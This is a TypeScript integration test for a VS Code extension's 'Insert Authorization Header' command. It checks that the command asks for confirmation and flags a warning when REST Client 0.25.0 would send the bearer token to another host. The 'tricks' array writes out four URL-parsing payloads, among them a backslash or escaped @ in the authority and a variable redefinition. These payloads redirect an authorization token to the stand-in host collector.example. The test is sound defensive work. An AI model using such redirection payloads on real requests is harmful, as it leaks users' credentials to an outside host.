// The host check proved against REST Client itself (issue 34): each trick that moves REST Client's request
// to another host is sent with REST Client 0.25.0, installed beside us in the real host. The emulator on
// loopback is the service; collector.example, which REST Client reaches through the host's proxy (a
// recorder), is the other host. Where REST Client delivers the token elsewhere, Insert Authorization Header
// asked first and the warning stands; the benign twin of each (the same shape aimed at the service) gets
// the header with no question, and REST Client delivers it to the service.
import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { Socket } from 'node:net';
import * as path from 'node:path';
import * as vscode from 'vscode';
import type { RiggedEmulator } from '../emulator/rig';
import type { TestApi } from './testApi';
import { ENV_PROXY_ENV } from '../support/connectProxy';
import { logIn, ScriptedPrompter, until, useEmulatorSuite } from './loginHelpers';

/** The other host: a name no resolver here knows, so REST Client reaches it only through the host's proxy. */
const OTHER = 'collector.example';

/**
 * The proxy the test host's HTTPS_PROXY names (runIntegration.ts), standing in for every host but loopback:
 * it records the host and Authorization of each request it is asked to forward or tunnel, and answers 204.
 */
async function recorder(): Promise<{ server: Server; reached: Array<{ host: string; authorization: string }> }> {
	const reached: Array<{ host: string; authorization: string }> = [];
	const server = createServer((req, res) => {
		const host = /^https?:\/\//.test(req.url ?? '') ? new URL(req.url!).hostname : (req.headers.host ?? '').replace(/:\d+$/, '');
		reached.push({ host, authorization: req.headers.authorization ?? '' });
		req.resume();
		res.writeHead(204).end();
	});
	// A tunnel (CONNECT) is answered by this same server, which then reads the request inside it.
	server.on('connect', (_req, socket: Socket) => {
		socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
		server.emit('connection', socket);
	});
	const port = Number(new URL(process.env[ENV_PROXY_ENV] ?? 'http://x:1').port);
	await new Promise<void>((resolve, reject) => {
		server.once('error', reject);
		server.listen(port, '127.0.0.1', () => resolve());
	});
	return { server, reached };
}

describe('REST Client itself goes where the host check says, or the check asks (real VS Code, REST Client 0.25.0)', function () {
	this.timeout(60_000);
	let api: TestApi;
	let emu: RiggedEmulator;
	let other: Awaited<ReturnType<typeof recorder>>;
	let token: string;
	let counter = 0;

	useEmulatorSuite({ rateLimit: 'lifted', logOutBetweenTests: false }, (started) => ({ api, emu } = started));

	before(async () => {
		const restClient = vscode.extensions.getExtension('humao.rest-client');
		assert.ok(restClient, 'REST Client is installed in the test host');
		await restClient.activate();
		other = await recorder();
		const session = await logIn(api, emu, 'user');
		token = api.services.store.get(session.account.id)!.tokens!.accessToken;
	});

	after(async () => {
		api.setPrompter(undefined);
		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
		other.server.closeAllConnections();
		await new Promise((resolve) => other.server.close(resolve));
	});

	/**
	 * Opens `text` as a new .http file, runs Insert with the cursor on `cursor` (told to go on when asked),
	 * then sends that request with REST Client: what was asked, the warnings on the request, and where
	 * REST Client delivered the token.
	 */
	async function insertThenSend(text: string, cursor: string): Promise<{ asked: number; warned: boolean; reached: string }> {
		const file = path.join(vscode.workspace.workspaceFolders![0]!.uri.fsPath, `rest-client-hosts-${++counter}.http`);
		fs.writeFileSync(file, text);
		const editor = await vscode.window.showTextDocument(await vscode.workspace.openTextDocument(file));
		const line = editor.document.positionAt(text.indexOf(cursor)).line;
		editor.selection = new vscode.Selection(line, 0, line, 0);
		const prompter = new ScriptedPrompter([], 'user', true);
		api.setPrompter(prompter);
		try {
			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
		} finally {
			api.setPrompter(undefined);
		}
		assert.ok(editor.document.getText().includes(`Authorization: Bearer ${token}`), 'the header is written');
		await editor.document.save();
		// The warnings follow edits after a short pause: a request that has one gets it within seconds.
		const warned = await until('a warning on the request', () => vscode.languages.getDiagnostics(editor.document.uri)
			.some((d) => d.code === 'tokenToAnotherSite' && d.range.start.line === line), 3000).catch(() => false);

		emu.resetStats();
		const before = other.reached.length;
		editor.selection = new vscode.Selection(line, 0, line, 0);
		await vscode.commands.executeCommand('rest-client.request');
		const bearer = `Bearer ${token}`;
		const reached = await until('REST Client\'s request to reach one of the hosts', () => {
			const got = other.reached.slice(before);
			if (got.length > 0) return got.some((r) => r.host === OTHER && r.authorization === bearer) ? 'other' as const : `elsewhere: ${JSON.stringify(got)}`;
			if (emu.stats.requests.length > 0) return emu.stats.lastMeAuthorization === bearer ? 'service' as const : 'the service, without the token' as const;
			return undefined;
		}, 90_000);
		await vscode.commands.executeCommand('workbench.action.closeAllEditors');
		fs.rmSync(file, { force: true });
		return { asked: prompter.confirmations.length, warned, reached };
	}

	// `${s}` is the service (http://127.0.0.1:port), `${o}` the other host.
	const tricks: Array<[string, (s: string, o: string) => string, string]> = [
		['a backslash in the authority', (s, o) => `GET ${s}\\@${o}/v1/Me\n`, 'GET'],
		['a query continuation line that moves the host', (s, o) => `GET ${s}\n    &@${o}/v1/Me\n`, 'GET'],
		['an escaped @ in a variable\'s value', (s, o) => `@h = ${s.replace('http://', '')}\\@${o}\n\n###\nGET http://{{h}}/v1/Me\n`, 'GET'],
		['a definition inside a request body', (s, o) => `@base = ${s}\n\n###\nGET {{base}}/v1/Me\n\n###\nPOST ${s}/v1/Nothing\n\n@base = http://${o}\n`, 'GET'],
	];
	const twins: Array<[string, (s: string) => string, string]> = [
		['a backslash after the authority', (s) => `GET ${s}/v1/Me?path=a\\b\n`, 'GET'],
		['a query continuation line', (s) => `GET ${s}/v1/Me\n    ?a=1\n    &b=2\n`, 'GET'],
		['a variable', (s) => `@h = ${s.replace('http://', '')}\n\n###\nGET http://{{h}}/v1/Me\n`, 'GET'],
		['a definition inside a request body that names the service', (s) => `@base = ${s}\n\n###\nGET {{base}}/v1/Me\n\n###\nPOST ${s}/v1/Nothing\n\n@base = ${s}\n`, 'GET'],
	];

	for (const [name, text, cursor] of tricks) {
		it(`${name}: REST Client goes to the other host, and Insert asked and the warning stands`, async () => {
			const result = await insertThenSend(text(emu.url, OTHER), cursor);
			assert.deepEqual(result, { asked: 1, warned: true, reached: 'other' });
		});
	}
	for (const [name, text, cursor] of twins) {
		it(`benign twin, ${name}: no question, no warning, REST Client goes to the service`, async () => {
			const result = await insertThenSend(text(emu.url), cursor);
			assert.deepEqual(result, { asked: 0, warned: false, reached: 'service' });
		});
	}
});
